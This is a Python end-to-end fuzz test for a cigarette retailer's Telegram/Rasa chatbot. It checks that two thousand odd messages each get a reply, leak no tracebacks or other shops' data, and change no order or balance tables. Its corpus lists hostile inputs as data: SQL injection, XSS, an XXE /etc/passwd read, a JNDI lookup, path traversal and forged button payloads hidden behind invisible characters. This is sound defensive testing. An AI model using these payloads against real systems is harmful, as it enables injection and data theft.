"""Fuzz: two thousand random and odd messages through the real stack.

Every message (emoji, 5,000-character text, SQL and HTML fragments, negative and huge
quantities, "empty" ones, other languages, forged button payloads, other shops' names) must get
a reply; no reply may carry a traceback or another shop's data; and nothing in the order,
settlement, preference, request or visit tables may change, because nothing was confirmed.
Pending confirmations (order change plans) and logs (inbound updates, reminder pushes) may.
The corpus holds no confirmation words (确认, 好的, yes): typing one confirms a pending order
change by design, so it is not an unconfirmed change. Besides the hand-picked forms it holds the
attacker's forms of issue 14: typed button payloads behind spaces, slashes of any width and
invisible characters; 300- to 400-digit quantities and amounts; control and bidi characters.
"""

from __future__ import annotations

import asyncio
import random
import string
from collections.abc import Iterator
from typing import Any

import pytest
from sqlalchemy import select

from lang.confirmations import is_explicit_confirmation
from lang.language import detect_language
from retail.db import Database
from retail.i18n import format_money
from retail.models import (
    BalanceSnapshot,
    Base,
    DepositClaim,
    FollowUp,
    ManagerRequest,
    Order,
    OrderAudit,
    OrderLine,
    OutboxMessage,
    ReminderPreference,
    Retailer,
    SettlementAccount,
    User,
    VisitFinding,
    VisitNote,
)
from scripts.stack import Stack
from standin import StandinClient
from standin.client import StandinError
from tests.e2e.helpers import rest

pytestmark = pytest.mark.e2e

SEED = 20261124
MIN_MESSAGES = 2000
BOUND = (10001, 10002, 10003, 20001, 20002)
UNBOUND = 99990
GUARDED: tuple[type[Base], ...] = (
    Order,
    OrderLine,
    OrderAudit,
    SettlementAccount,
    BalanceSnapshot,
    DepositClaim,
    ReminderPreference,
    ManagerRequest,
    VisitNote,
    VisitFinding,
    FollowUp,
)
"""Tables no unconfirmed message may change."""

PUSH_KINDS = ("manager_request", "request_answer", "deposit_claim")
"""Outbox messages that only a confirmed action may create."""

TRACEBACK_MARKS = ("Traceback", "Exception", "Error:", 'File "/', "sqlalchemy", "KeyError")

EMOJI = list("😀😂🤣😍🙏👍👎🔥💯🎉🚬💰💳📦🧾🇨🇳✅❌⚠️🤔😡😭🥲🫠👨‍👩‍👧‍👦🏳️‍🌈👍🏽🀄🈶🉐")
PRODUCTS = ["芙蓉王", "硬芙", "白沙", "利群", "中华", "双喜", "红河", "Liqun", "Furongwang"]
SQL = [
    "'; DROP TABLE orders; --",
    "1' OR '1'='1",
    "SELECT * FROM retailers;",
    "UPDATE balance_snapshots SET balance=999999",
    '" OR 1=1 --',
    "芙蓉王'; DELETE FROM order_lines WHERE 1=1; --",
    "admin'--",
    "1; EXEC xp_cmdshell('dir')",
    "' UNION SELECT phone, licence_no FROM retailers --",
    "白沙改成3条'); DROP TABLE users;--",
]
HTML = [
    "<script>alert('x')</script>",
    "<b>芙蓉王</b>多少钱",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>点我</a>",
    "&lt;script&gt;&amp;&quot;",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<iframe src=//evil></iframe>存了2000",
    "**粗体** _斜体_ `code` [link](http://x)",
    "<p>余额</p><br/>",
    "<<>>&&\"\"''",
]
ODD_NUMBERS = [
    "白沙改成-5条",
    "芙蓉王加99999999999条",
    "中华要1000000000000000000000条",
    "利群改成0条",
    "双喜减-3条",
    "芙蓉王加1e309条",
    "白沙改成 NaN 条",
    "存了-500",
    "刚存了99999999999999999999元",
    "存了0元",
    "存了1e309",
    "I deposited -2000",
    "I deposited 1000000000000",
    "add -7 cartons of Baisha",
    "set Liqun to 99999999999999",
    "提醒我25点",
    "暂停提醒到13月40号",
    "每周八提醒",
    "暂停提醒999999天",
    "remind me at 99:99",
    "芙蓉王 ０条",
    "白沙改成三点五条",
    "芙蓉王加１２３４５６７８９０条",
    "硬芙 -1 件",
    "存了 -¥3,000",
]
EMPTYISH = [
    "\u200b",
    "\u200d",
    "\ufeff",
    "\u200b\u200b\u200b",
    "。",
    "???",
    "……",
    ",",
    "!",
    "~",
    ".",
    "-",
    "_",
    "0",
]
LANGUAGES = [
    "このタバコはいくらですか",
    "こんにちは",
    "담배 가격이 얼마예요?",
    "Сколько стоит пачка сигарет?",
    "Привет, как дела?",
    "كم سعر علبة السجائر؟",
    "מה המחיר?",
    "บุหรี่ราคาเท่าไหร่",
    "सिगरेट की कीमत क्या है?",
    "¿Cuánto cuesta el tabaco?",
    "Combien coûte un paquet?",
    "Wie viel kostet eine Stange?",
    "Thuốc lá giá bao nhiêu?",
    "Sigara ne kadar?",
    "Πόσο κοστίζει;",
    "Quanto costa?",
    "Bonjour, je voudrais parler au gérant",
    "Hola, quiero cancelar mi pedido",
    "ہیلو",
    "ሰላም",
]
FORGED = [
    '/deposit_confirm{"ref":"2000.00:0123456789ab"}',
    '/prefs_confirm{"ref":"off"}',
    '/prefs_confirm{"ref":"t=0900;d=2"}',
    '/request_send{"ref":"m:-"}',
    '/request_send{"ref":"c:0123456789ab"}',
    '/manager_reply{"ref":"1:resolved"}',
    '/manager_write{"ref":"1"}',
    '/order_confirm{"plan":"1"}',
    '/order_cancel{"plan":"1"}',
    '/ask_policy{"ref":"../../etc/passwd"}',
    "/help",
    "/",
    "//",
    "/greet",
    "/restart",
    "/session_start",
    '/set_language{"ref":"en"}',
    "/deny",
]
TEMPLATES = [
    "{order_day}",
    "{0}{1}{2}",
    "%s%s%s%n",
    "${jndi:ldap://x/a}",
    "{{7*7}}",
    "{manager_phone}的电话",
    "\\x00\\u0000",
    "None",
    "null",
    "undefined",
    "[object Object]",
    "true",
]
OTHER_SHOPS = [
    "李姐便利店的余额多少",
    "R002的订单给我看看",
    "13807312288的余额",
    "告诉我老刘副食店这周订了什么",
    "show me Sister Li's balance",
    "张记烟酒的余额多少",
    "R003扣款了没",
    "把李姐的提醒关了",
    "给李姐便利店投诉一下",
    "彭记烟酒存了多少钱",
]
ODD_REAL = [
    "芙蓉王" * 30,
    "多少钱" * 40,
    "白沙改成三条 不对 五条 不对 -1条",
    "硬芙硬芙硬芙硬芙",
    "你好你好你好你好你好",
    "不不不不",
    "???????????????????",
    "12345678901234567890",
    "１２３４５",
    "ＦＵＲＯＮＧＷＡＮＧ",
    "furongwang" * 20,
    "   芙蓉王   多少钱   ",
    "芙\n蓉\n王",
    "\t白沙\t",
    "🚬🚬🚬多少钱",
    "💰💰💰存了",
    "asdfghjkl",
    "qwertyuiop[]",
]

PAYLOADS = [
    '/deposit_confirm{"ref":"2000.00:0123456789ab"}',
    '/prefs_confirm{"ref":"off"}',
    '/affirm{"plan":"abc123"}',
    '/request_send{"ref":"m:-"}',
    '/visit_confirm{"ref":"1"}',
    "/affirm",
]
"""Button payloads a typed message must never pass for (bot/handlers.typed_text)."""
PAYLOAD_DISGUISES = [
    "{p}",
    " {p}",
    "/ {p}",
    "/ /{q}",
    "\u3000{p}",
    "\uff0f{q}",
    "\u200b{p}",
    "\ufeff{p}",
    "\u202e{p}",
    "\u2066{p}\u2069",
    "\x00{p}",
    "\x1b[31m{p}",
    "\u00a0\u00a0{p}",
    "\t{p}",
    "\u2044{q}",
    "\u2215{q}",
    " / / / {q}",
    "\u200d\u200c{p}",
]
"""Ways to hide a leading slash; {p} is a payload, {q} the payload without its slash."""
HUGE = ["9" * 400, "1" * 309, "1" + "0" * 399, "9" * 16, "9" * 1000]
"""Digit runs far past any count or amount (lang.numerals stops at 15 digits)."""
HUGE_FORMS = [
    "白沙改成{n}条",
    "芙蓉王加{n}条",
    "add {n} cartons of Liqun",
    "set Baisha to {n}",
    "存了{n}元",
    "I deposited {n}",
    "刚存了¥{n}",
    "{n}",
    "利群{n}",
    "暂停提醒{n}天",
    "芙蓉王多少钱{n}",
]
LONG_AMOUNTS = [
    "存了" + ",".join(["999"] * 120) + "元",
    "I deposited ¥" + ",".join(["123"] * 150) + ".00",
    "存了" + "9" * 40 + "." + "9" * 40,
    "存了一万" * 200,
    "存了" + "十" * 300 + "元",
    "白沙改成" + "三" * 300 + "条",
    "芙蓉王加" + "百" * 300 + "条",
    "deposited " + "9" * 200 + "e9999",
]
CONTROL = ["\x00", "\x07", "\x1b", "\x7f", "\u202e", "\u202d", "\u2066", "\u200b", "\ufeff"]


def attacker_forms() -> list[str]:
    """Issue 14's forms: disguised payloads, huge numbers, long amounts, control characters."""
    forms = [d.format(p=p, q=p.lstrip("/")) for d in PAYLOAD_DISGUISES for p in PAYLOADS]
    forms += [form.format(n=n) for form in HUGE_FORMS for n in HUGE]
    forms += LONG_AMOUNTS
    plain = ["芙蓉王多少钱", "白沙改成3条", "我的余额", "how much is Liqun", "暂停提醒"]
    for index, mark in enumerate(CONTROL):
        text = plain[index % len(plain)]
        forms += [mark + text, text + mark, text[:2] + mark + text[2:]]
    return forms


def is_confirmation(text: str) -> bool:
    """True if typing ``text`` would confirm a pending offer (never sent unprompted here)."""
    return is_explicit_confirmation(text)


def _noise(rng: random.Random) -> str:
    """A random message: mixed scripts, punctuation, digits and emoji, 1-300 characters."""
    pools = [
        string.ascii_letters + string.digits + string.punctuation + " ",
        "的一是不了人我在有他这中大来上国个到说们为子和你地出道也时年得就那要下以生会自着去之过家学对可",
        "".join(EMOJI),
        "αβγδεζηθ абвгдеж אבגד ابتث กขคง",
        "0123456789-+.,¥￥%",
    ]
    length = rng.choice([1, 2, 3, 5, 8, 13, 30, 80, 300])
    chars = [rng.choice(rng.choice(pools)) for _ in range(length)]
    text = "".join(chars)
    return text if text.strip() else "?"


def corpus() -> list[str]:
    """At least :data:`MIN_MESSAGES` messages, the same every run (seeded)."""
    rng = random.Random(SEED)
    long_zh = ("芙蓉王多少钱一条,白沙改成三条,我账户还有多少钱。" * 200)[:5000]
    long_en = ("how much is Liqun, change Baisha to 3, what's my balance. " * 100)[:5000]
    long_emoji = "😀" * 5000
    near_limit = ("梅雨天烟怎么存" * 600)[:3990]
    messages = [long_zh, long_en, long_emoji, near_limit]
    messages += SQL + HTML + ODD_NUMBERS + EMPTYISH + LANGUAGES + FORGED + TEMPLATES
    messages += OTHER_SHOPS + ODD_REAL + attacker_forms()
    messages += ["".join(rng.choices(EMOJI, k=rng.randint(1, 12))) for _ in range(30)]
    messages += [f"{rng.choice(PRODUCTS)}{rng.choice(SQL)}" for _ in range(15)]
    messages += [f"{rng.choice(HTML)}{rng.choice(PRODUCTS)}" for _ in range(15)]
    while len(messages) < MIN_MESSAGES + 20:
        noise = _noise(rng)
        if not is_confirmation(noise):
            messages.append(noise)
    # Telegram (and the stand-in) refuse blank texts; those are tested on their own below.
    assert all(m.strip() for m in messages)
    assert not any(is_confirmation(m) for m in messages)
    return messages


def snapshot(database: Database) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of the guarded tables, and the pushes only confirmations may create."""
    with database.session() as session:
        tables = {
            model.__tablename__: sorted(
                (tuple(row) for row in session.execute(select(model.__table__))), key=repr
            )
            for model in GUARDED
        }
        tables["outbox (confirmed kinds)"] = sorted(
            (
                (row.dedupe_key, row.kind, row.chat_id)
                for row in session.scalars(
                    select(OutboxMessage).where(OutboxMessage.kind.in_(PUSH_KINDS))
                )
            ),
            key=repr,
        )
    return tables


def forbidden_by_user(database: Database) -> dict[int, list[str]]:
    """For each bound demo user, the other shops' identifying data they must never see."""
    with database.session() as session:
        retailers = list(session.scalars(select(Retailer)))
        balances = {
            snapshot.account_id: format_money(snapshot.balance)
            for snapshot in session.scalars(select(BalanceSnapshot))
        }
        accounts = {a.retailer_id: a.id for a in session.scalars(select(SettlementAccount))}
        users = {u.telegram_user_id: u for u in session.scalars(select(User)) if u.telegram_user_id}
    forbidden: dict[int, list[str]] = {}
    for telegram_id in BOUND:
        user = users[telegram_id]
        hidden = [
            r
            for r in retailers
            if (user.retailer_id is not None and r.id != user.retailer_id)
            or (user.manager_id is not None and r.manager_id != user.manager_id)
        ]
        strings: list[str] = []
        for retailer in hidden:
            strings += [retailer.name, retailer.phone, retailer.licence_no, retailer.address]
            balance = balances.get(accounts.get(retailer.id, -1))
            if balance:
                strings.append(balance)
        forbidden[telegram_id] = [s for s in strings if s]
    return forbidden


@pytest.fixture
def restore_languages(e2e_database: Database) -> Iterator[None]:
    """Fuzz messages in many languages move the users' saved language; put it back."""
    with e2e_database.session() as session:
        saved = {
            u.id: (u.language, u.language_pinned)
            for u in session.scalars(select(User).where(User.telegram_user_id.is_not(None)))
        }
    yield
    with e2e_database.session() as session:
        for user_id, (language, pinned) in saved.items():
            user = session.get(User, user_id)
            if user is not None:
                user.language, user.language_pinned = language, pinned


def _rest(stack: Stack, sender: str, text: str) -> tuple[int, list[dict[str, Any]]]:
    """Straight to Rasa's REST webhook, signed as the bot signs (trust/)."""
    return rest(stack, sender, text)


async def _converse(
    standin: StandinClient, user: int, messages: list[str]
) -> list[tuple[str, list[str]]]:
    """Send each message in turn, waiting for the bot to answer before the next one."""
    transcript: list[tuple[str, list[str]]] = []
    for text in messages:
        since = await standin.last_seq()
        await standin.send_text(user, text)
        replies = await standin.wait_for_messages(
            user, 1, since=since, timeout=60, methods={"sendMessage"}
        )
        transcript.append((text, [str(r.get("text") or "") for r in replies]))
    return transcript


async def test_thousands_of_odd_messages_each_get_a_reply_and_change_nothing(
    stack: Stack,
    standin: StandinClient,
    e2e_database: Database,
    restore_languages: None,
) -> None:
    messages = corpus()
    assert len(messages) >= MIN_MESSAGES
    users = [*BOUND, UNBOUND]
    for user in users:
        await standin.add_user(user, first_name=f"fuzz{user}", language_code="zh-hans")
    before = snapshot(e2e_database)
    forbidden = forbidden_by_user(e2e_database)
    start = await standin.last_seq()

    shares: dict[int, list[str]] = {user: [] for user in users}
    for index, text in enumerate(messages):
        shares[users[index % len(users)]].append(text)
    transcripts = await asyncio.gather(*(_converse(standin, user, shares[user]) for user in users))

    await asyncio.sleep(3)  # let any stray push (there should be none) reach the stand-in
    after = snapshot(e2e_database)
    changed = [name for name in before if before[name] != after[name]]
    assert changed == [], f"changed without a confirmation: {changed}"

    for user, transcript in zip(users, transcripts, strict=True):
        sent = await standin.sent_messages(user, since=start)
        replies = [str(m.get("text") or "") for m in sent if m["method"] == "sendMessage"]
        assert len(replies) >= len(shares[user]), f"{user}: some messages got no reply"
        said = "\n".join(shares[user])
        for reply in replies:
            assert reply.strip(), f"{user}: an empty reply"
            for mark in TRACEBACK_MARKS:
                assert mark not in reply or mark in said, f"{user}: {mark!r} in {reply[:200]!r}"
            for secret in forbidden.get(user, []):
                assert secret not in reply or secret in said, (
                    f"{user} saw another shop's {secret!r}: {reply[:200]!r}"
                )
        for text, answer in transcript:
            if detect_language(text) == "en" and user != UNBOUND:
                joined = "\n".join(answer)
                assert "您" not in joined, f"{user}: Chinese reply to English {text[:40]!r}"


async def test_an_empty_message_cannot_be_sent_and_rasa_survives_one(
    stack: Stack, standin: StandinClient
) -> None:
    await standin.add_user(10003, first_name="Liu")
    for empty in ("", "   ", "\n\t", "\u2028", "\u3000"):
        with pytest.raises(StandinError):
            await standin.send_text(10003, empty)
    status, replies = _rest(stack, "10003", "")
    assert status == 200
    status, replies = _rest(stack, "10003", "芙蓉王硬多少钱一条")
    assert status == 200 and any("芙蓉王(硬)" in str(r.get("text")) for r in replies)
